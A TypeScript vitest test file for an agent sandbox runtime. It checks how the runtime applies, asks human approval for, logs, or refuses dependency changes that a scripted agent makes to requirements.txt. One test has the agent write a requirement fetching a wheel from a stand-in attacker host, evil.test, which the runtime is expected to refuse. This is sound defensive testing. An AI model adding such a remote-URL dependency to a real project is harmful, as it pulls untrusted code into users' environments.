/** An agent that changes what its project depends on. */
import { execFileSync } from "node:child_process";
import { networkInterfaces } from "node:os";
import { afterEach, beforeEach, expect, test } from "vitest";
import type { ScriptTurn } from "../../src/model/script-schema.ts";
import { chooseSandbox } from "../../src/runtime/registry.ts";
import { bodiesOf, type Ending, type JsonObject, Place } from "../end-to-end/place.ts";
import { TestRegistry } from "./registry.ts";

let place: Place;
let packages: TestRegistry;
let index: string;

beforeEach(async (context) => {
  const address = Object.values(networkInterfaces())
    .flatMap((each) => each ?? [])
    .find(({ family, internal }) => family === "IPv4" && !internal)?.address;
  const chosen = await chooseSandbox(process.env).catch(() => undefined);
  if (address === undefined || chosen !== "bubblewrap")
    return context.skip("it needs bubblewrap, and an address that is not loopback");
  packages = await TestRegistry.start(false, address);
  index = `http://${address}:${packages.port}/simple/`;
  for (const version of ["1.0.0", "1.0.1"])
    packages.addWheel("dep", version, { "dep.py": `VERSION = '${version}'\n` });
  place = new Place();
  place.write("requirements.txt", "dep==1.0.0\n");
  const git = (...words: string[]): unknown =>
    execFileSync("git", ["-c", "user.name=me", "-c", "user.email=me@example.org", ...words], {
      cwd: place.project,
    });
  git("init", "-q");
  git("add", ".");
  git("commit", "-qm", "one");
});
afterEach(async () => {
  packages?.close();
  await place?.[Symbol.asyncDispose]();
});

const LOOK = "python3 -c 'import dep; print(\"version\", dep.VERSION)'";

function bash(command: string): ScriptTurn {
  return { tools: [{ name: "bash", input: { command } }] };
}

async function run(turns: readonly ScriptTurn[], ...flags: readonly string[]): Promise<Ending> {
  const model = place.script({ turns: [...turns] }, "../script.json");
  const words = ["run", "go", "--sandbox", "bubblewrap", "--model", model, "--setup", "python3 -m pytest"];
  return person([...words, ...flags]);
}

/** It looks, changes the requirement, rests; then looks again. */
const CHANGING: readonly ScriptTurn[] = [
  bash(LOOK),
  bash("echo dep==1.0.1 > requirements.txt"),
  { text: "First." },
  bash(LOOK),
  { text: "Done." },
];

function person(words: readonly string[]): Promise<Ending> {
  return place.run(words, { env: { PIP_INDEX_URL: index, HOME: process.env.HOME } });
}

async function session(): Promise<string> {
  const { sessions } = (await place.json(["list"])) as { sessions: { session_id: string }[] };
  return sessions[0]?.session_id ?? "";
}

async function sendAndResume(): Promise<void> {
  await person(["send", await session(), "go on"]);
  const ending = await person(["resume", await session()]);
  expect(ending.code, ending.stderr).toBe(0);
}

async function versionsSeen(): Promise<(string | undefined)[]> {
  const results = bodiesOf(await place.events(await session()), "agent.tool_result");
  return [results.at(0), results.at(-1)].map((body) => /version ([\d.]+)/.exec(JSON.stringify(body))?.[1]);
}

async function decisions(): Promise<JsonObject[]> {
  return bodiesOf(await place.events(await session()), "environment.decided");
}

test("allow: the next sandbox has them; what was fetched is in the log, once", async () => {
  const ending = await run(CHANGING, "--deps", "allow");
  expect(ending.code, ending.stderr).toBe(0);
  await sendAndResume();
  expect(await versionsSeen()).toEqual(["1.0.0", "1.0.1"]);
  const [decision, ...others] = await decisions();
  expect(others).toEqual([]);
  expect(decision).toMatchObject({
    decision: "make",
    files: [{ path: "requirements.txt", change: "modified" }],
  });
  const fetched = bodiesOf(await place.events(await session()), "egress.decided");
  expect(fetched.map(({ phase }) => phase)).toEqual(["set_up", "set_up"]);
  const paths = fetched
    .flatMap(({ lines }) => lines as JsonObject[])
    .filter(({ kind }) => kind === "decision")
    .map(({ path }) => path);
  expect(paths.filter((path) => String(path).endsWith(".whl"))).toEqual([
    "/files/dep-1.0.0-py3-none-any.whl",
    "/files/dep-1.0.1-py3-none-any.whl",
  ]);
  await place.expectSound();
});

test("ask: it rests until a person has answered about exactly this layer, then goes on with it", async () => {
  const ending = await run(CHANGING);
  expect(ending.code, ending.stderr).toBe(4);
  const [decision] = await decisions();
  const layer = String(decision?.key).slice(0, 12);
  const status = await place.run(["status", await session()]);
  expect(status.stdout).toContain(layer);
  const wrong = await place.run(["approve", await session(), "000000000000"]);
  expect(wrong.stderr).toContain(`It asks about ${layer}`);
  expect((await place.run(["approve", await session(), layer])).code).toBe(0);
  const resumed = await person(["resume", await session()]);
  expect(resumed.code, resumed.stderr).toBe(0);
  expect(await versionsSeen()).toEqual(["1.0.0", "1.0.1"]);
  expect((await decisions()).map(({ decision: each }) => each)).toEqual(["ask", "make"]);
  await place.expectSound();
});

test("what is refused, and what cannot be installed: commands find what there was, and the model is told", async () => {
  const refused = "dep @ https://evil.test/dep.whl";
  const turns = [
    bash(`${LOOK}; echo '${refused}' > requirements.txt`),
    { text: "First." },
    bash(`echo dep==9.9.9 > requirements.txt`),
    { text: "Second." },
    bash(LOOK),
    { text: "Done." },
  ];
  const ending = await run(turns, "--deps", "allow");
  expect(ending.code, ending.stderr).toBe(0);
  await sendAndResume();
  await sendAndResume();
  expect(await versionsSeen()).toEqual(["1.0.0", "1.0.0"]);
  const told = (await decisions()).map(({ decision, content }) => [decision, JSON.stringify(content)]);
  expect(told).toEqual([
    ["refused", expect.stringContaining("not a package of a registry")],
    ["make", expect.stringContaining("From the next command on")],
    ["failed", expect.stringContaining("cannot be installed")],
  ]);
  await place.expectSound();
});
